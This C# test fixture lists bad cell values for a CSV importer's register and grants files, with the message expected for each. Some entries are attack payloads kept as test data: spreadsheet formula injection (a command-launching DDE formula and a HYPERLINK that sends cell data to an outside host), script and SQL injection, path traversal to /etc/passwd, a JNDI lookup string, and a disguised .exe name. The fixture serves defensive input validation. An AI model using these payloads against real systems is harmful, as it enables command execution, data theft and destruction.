namespace Graph.Import.Tests.BadFiles;

/// <summary>Tables with cells that are not what their column is for, or that mean to do harm.</summary>
internal static class Cells
{
    public static IReadOnlyList<BadFile> All { get; } =
    [
        Since("a day that does not exist", "31/02/2020", "row 2, column \"Since\""),
        Since("a month that does not exist", "01/13/2020", "row 2, column \"Since\""),
        Since("the number of a day", "43862", BadFile.Lands),
        Since("a year and month as one number", "202207", "row 2, column \"Since\": \"202207\" is not a date"),
        Since("a time without a day", "09:30", "row 2, column \"Since\": \"09:30\" is not a date"),
        Since("a day of the year 9999", "31/12/9999", BadFile.Lands),
        Since("a day of the year 0", "00/00/0000", BadFile.Lands),
        Since("a day that is still to come", "2031-01-01", BadFile.Lands),
        Since("two days", "01/02/2020 or 01/03/2020", "row 2, column \"Since\": \"01/02/2020 or 01/03/2020\" is not a date"),
        Since("infinity", "1e400", "row 2, column \"Since\": \"1e400\" is not a date"),
        Since("what Excel shows where the column is too narrow", "########", BadFile.Lands),
        Since("an error of a spreadsheet", "#REF!", "row 2, column \"Since\": the cell has the error #REF!"),
        BadFile.Of("a number that says nothing", "grants.csv", "Title,Reference,Amount,Funders\nVan,TBC,100,Lark Council\n", "row 2, column \"Reference\": nothing in it tells the row from others"),
        Named("a formula that opens a program", "=cmd|' /C calc'!A0", "row 2, column \"Organisation B\": it names several organisations"),
        Named("a formula that sends cells away", "=HYPERLINK(\"\"http://example.org?x=\"\"&A1)", BadFile.Lands),
        Named("a plus", "+1+2", BadFile.Lands),
        Named("a minus", "-2+3", BadFile.Lands),
        Named("an at sign", "@SUM(1)", BadFile.Lands),
        Named("a tab before a formula", "\t=1+1", BadFile.Lands),
        Named("letters from right to left", "Hub\u202Egpj.exe", BadFile.Lands),
        Named("marks that isolate", "\u2066Hub\u2069 \u2067Trust\u2069", BadFile.Lands),
        Named("blanks without width", "H\u200Bu\u200Db\uFEFF", BadFile.Lands),
        Named("nothing but blanks without width", "\u200B\u200B\uFEFF", "row 2, column \"Organisation B\": it is blank"),
        Named("nothing but signs", "!!! ??? ---", BadFile.Lands),
        Named("control characters", "Hub\u0001\u0007\u001B[31m", BadFile.Lands),
        Named("a soft hyphen and blanks that do not break", "Sef\u00ADton\u00A0Hub", BadFile.Lands),
        Named("letters that look like others", "Н\u0443b", BadFile.Lands),
        Named("marks heaped upon letters", "H\u0336\u0321\u031B\u0322u\u0336b" + new string('\u0336', 500), BadFile.Lands),
        Named("emoji", "👩‍👩‍👧 Hub 🏴󠁧󠁢󠁷󠁬󠁳󠁿", BadFile.Lands),
        Named("a script", "<script>alert(1)</script>", BadFile.Lands),
        Named("a statement of a database", "'; DROP TABLE node; --", BadFile.Lands),
        Named("a query of Lucene", "+(a b) -c ~1 [a TO z]", BadFile.Lands),
        Named("a path", "../../../etc/passwd", BadFile.Lands),
        Named("a hole of a template", "{{7*7}} ${jndi:ldap://example.org} %s%n", BadFile.Lands),
        Named("a text of a hundred thousand letters", new string('x', 100_001), "row 2, column \"Organisation B\": the cell has more than 100000 characters"),
        Named("a word of thousands of letters", new string('y', 5_000), "row 2: its \"Name\" has 5,000 characters, and can have 2,500"),
        Named("a name of one letter", "x", BadFile.Lands),
        Named("a null", "NULL", BadFile.Lands),
        Named("a question mark", "?", BadFile.Lands),
        BadFile.Of("an address that is none", "register.csv", $"{BadFile.Header}\nCouncil,Hub,2020-02-01,{BadFile.Person},{BadFile.Email.Replace("@", " at ", StringComparison.Ordinal)}\n", "row 2, column \"Email A\": ‹hidden› is not an email address"),
        BadFile.Of("the same organisation on both sides", "register.csv", $"{BadFile.Header}\nHub,Hub,2020-02-01,{BadFile.Person},{BadFile.Email}\n", "row 2, column \"Organisation B\": it is the same organisation as in \"Organisation A\""),
        BadFile.Of("an end before the beginning", "register.csv", $"Organisation A,Organisation B,Since,Until,Holder A\nCouncil,Hub,2020-02-01,2019-02-01,{BadFile.Person}\n", "row 2, column \"Until\": \"2019-02-01\" is before \"2020-02-01\" in \"Since\""),
        BadFile.Of("an amount that is none", "grants.csv", Grant("lots", "2020-02-01"), "row 2, column \"Amount Awarded\": \"lots\" is not an amount"),
        BadFile.Of("an amount beyond all amounts", "grants.csv", Grant("1e300", "2020-02-01"), "row 2, column \"Amount Awarded\": \"1e300\" is not an amount"),
        BadFile.Of("an amount below nothing", "grants.csv", Grant("-5", "2020-02-01"), BadFile.Lands),
        BadFile.Of("an amount with two points", "grants.csv", Grant("1.000.00", "2020-02-01"), "row 2, column \"Amount Awarded\": \"1.000.00\" is not an amount"),
        BadFile.Of("the same grant twice", "grants.csv", Grant("5", "2020-02-01") + "g1,Grant,6,2021-02-01,Hub,Council\n", "row 3: the funding has two values for \"amount\" in this file: \"6\" here and \"5\" in row 2"),
    ];

    private static BadFile Since(string what, string cell, string says) => BadFile.Of($"{what} in a date column", "register.csv", $"{BadFile.Header}\nCouncil,Hub,{cell},{BadFile.Person},{BadFile.Email}\n", says);

    private static BadFile Named(string what, string cell, string says) => BadFile.Of($"{what} as a name", "register.csv", $"{BadFile.Header}\nCouncil,\"{cell}\",2020-02-01,{BadFile.Person},{BadFile.Email}\n", says);

    private static string Grant(string amount, string day) => $"Identifier,Title,Amount Awarded,Award Date,Recipient Org:Name,Funding Org:Name\ng1,Grant,{amount},{day},Hub,Council\n";
}
